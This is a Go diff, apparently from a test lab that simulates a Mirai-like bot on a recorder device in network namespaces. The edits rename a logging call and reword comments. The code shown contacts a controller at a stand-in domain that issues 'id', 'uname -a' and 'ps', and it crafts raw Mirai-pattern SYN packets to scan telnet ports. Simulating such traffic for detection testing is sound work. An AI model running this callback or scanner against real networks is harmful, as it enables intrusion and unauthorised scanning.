@@ -18,7 +18,7 @@ import (
 	"stillwatch/internal/testlab/netns"
 )
 
-// The keys of what the recorder does once it is a bot.
+// The keys of the bot's steps.
 const (
 	BotCalls    = "bot-calls"
 	BotCallback = "bot-callback"
@@ -31,24 +31,25 @@ const (
 	gonePort       = 6667
 )
 
-// bot is what the worm leaves on the recorder: it calls its controller and obeys, tries a second one that is gone, and looks for victims.
+// bot is the program that the attacker installs on the recorder: it connects to its controller and follows commands, tries a second controller
+// that does not answer, and scans for victims.
 func (m *machine) bot() error {
-	m.tell(BotCalls, "looks up update-cdn.example.com, connects to %s:%d and takes orders there", netns.Controller, controllerPort)
+	m.report(BotCalls, "looks up update-cdn.example.com, connects to %s:%d and takes orders there", netns.Controller, controllerPort)
 	if err := m.obey(); err != nil {
-		m.tell("", "the controller is lost: %v", err)
+		m.report("", "the controller is lost: %v", err)
 	}
-	m.tell(BotCallback, "tries %s:%d six times; nobody listens there", netns.Gone, gonePort)
+	m.report(BotCallback, "tries %s:%d six times; nobody listens there", netns.Gone, gonePort)
 	for range 6 {
 		if c, err := net.DialTimeout("tcp4", fmt.Sprintf("%s:%d", netns.Gone, gonePort), time.Second); err == nil {
 			_ = c.Close()
 		}
 		pause(m.ctx, 500*time.Millisecond)
 	}
-	m.tell(BotScans, "sends 200 SYNs to addresses outside on 23 and 2323, as Mirai does")
+	m.report(BotScans, "sends 200 SYNs to addresses outside on 23 and 2323, as Mirai does")
 	return m.seek(200)
 }
 
-// obey answers the lines of the controller until that one closes.
+// obey answers the controller's lines until the controller closes the connection.
 func (m *machine) obey() error {
 	ip, err := lookup(m.ctx, "update-cdn.example.com")
 	if err != nil {
@@ -74,7 +75,7 @@ func (m *machine) obey() error {
 	}
 }
 
-// command is the controller's side of obey.
+// command is the controller's side of the connection.
 func (m *machine) command(c net.Conn) {
 	in := bufio.NewReader(c)
 	for _, line := range []string{"id", "uname -a", "ps"} {
@@ -88,7 +89,7 @@ func (m *machine) command(c net.Conn) {
 	}
 }
 
-// seek sends SYNs by the pattern of Mirai: no options, and the destination as sequence number. Nobody waits for answers.
+// seek sends SYNs like Mirai: no options, and the destination address as sequence number. It does not wait for answers.
 func (m *machine) seek(n int) error {
 	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
 	if err != nil {
@@ -114,7 +115,7 @@ func (m *machine) seek(n int) error {
 	return nil
 }
 
-// miraiSYN is an IP packet; the kernel fills in identification and checksum of the IP header.
+// miraiSYN returns an IP packet; the kernel fills in identification and checksum of the IP header.
 func miraiSYN(from, to netip.Addr, sport, dport uint16) []byte {
 	const tcpLen, syn = 20, 0x02
 	src, dst := from.As4(), to.As4()
